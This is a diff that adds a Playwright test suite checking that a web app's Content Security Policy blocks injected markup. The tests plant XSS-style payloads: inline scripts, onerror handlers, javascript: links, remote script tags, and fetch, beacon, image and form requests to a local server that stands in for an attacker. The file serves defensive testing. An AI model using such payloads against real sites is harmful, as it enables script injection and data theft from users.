@@ -1,0 +1,83 @@
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Page } from '@playwright/test';
+import { expect, signUp, test } from './test';
+
+/** Where whoever attacks listens; what has arrived there. */
+let elsewhere: Server;
+let origin: string;
+let arrived: string[] = [];
+
+test.beforeAll(async () => {
+  elsewhere = createServer((request, response) => {
+    arrived.push(request.url ?? '');
+    response.setHeader('access-control-allow-origin', '*').setHeader('content-type', 'text/javascript');
+    response.end('window.harmed = "a script from elsewhere";');
+  });
+  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
+  origin = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
+});
+test.afterAll(() => void elsewhere.close());
+test.beforeEach(() => {
+  arrived = [];
+});
+
+/** As if something had got past React: markup in the page that somebody else has written. */
+const plant = (page: Page, html: string) =>
+  page.evaluate((markup) => {
+    const place = document.createElement('div');
+    place.innerHTML = markup;
+    document.body.append(place);
+    for (const { textContent, attributes } of place.querySelectorAll('script')) {
+      const script = document.createElement('script');
+      for (const { name, value } of attributes) script.setAttribute(name, value);
+      script.textContent = textContent;
+      document.body.append(script);
+    }
+  }, html);
+
+/** How often the browser has said that the policy does not allow something. */
+const watchViolations = (page: Page) =>
+  page.evaluate(() => {
+    const told: string[] = [];
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => told.push(effectiveDirective));
+    Object.assign(window, { told });
+  });
+const violations = (page: Page) =>
+  page.evaluate(() => [...new Set((window as unknown as { told: string[] }).told)].sort());
+
+test('what has got into a page all the same runs nothing', async ({ page }) => {
+  await signUp(page);
+  await watchViolations(page);
+  await plant(page, '<script>window.harmed = "an inline script"</script>');
+  await plant(page, '<img src="data:," onerror="window.harmed = \'a handler\'">');
+  await plant(page, `<script src="${origin}/script.js"></script>`);
+  await plant(page, '<object data="/assets/nothing.swf"></object>');
+  await plant(page, '<a id="lure" href="javascript:window.harmed = \'a link\'">here</a>');
+  await page.locator('#lure').dispatchEvent('click');
+  await expect
+    .poll(() => violations(page))
+    .toEqual(expect.arrayContaining(['object-src', 'script-src-attr', 'script-src-elem']));
+  expect(await page.evaluate(() => window.harmed)).toBeUndefined();
+  expect(arrived).toEqual([]);
+});
+
+test('and sends nothing elsewhere', async ({ page }) => {
+  await signUp(page);
+  await watchViolations(page);
+  const outcome = await page.evaluate(async (url) => {
+    const asked = await fetch(`${url}/fetched`).then(
+      () => 'sent',
+      () => 'refused',
+    );
+    return [asked, navigator.sendBeacon(`${url}/beacon`, 'rows')];
+  }, origin);
+  expect(outcome[0]).toBe('refused');
+  await plant(page, `<img src="${origin}/picture?rows"><base href="${origin}/">`);
+  await plant(page, `<form id="form" action="${origin}/form" method="post"><input name="a"></form>`);
+  await page.evaluate(() => (document.getElementById('form') as HTMLFormElement).submit());
+  await expect
+    .poll(() => violations(page))
+    .toEqual(expect.arrayContaining(['base-uri', 'connect-src', 'form-action', 'img-src']));
+  expect(arrived).toEqual([]);
+});
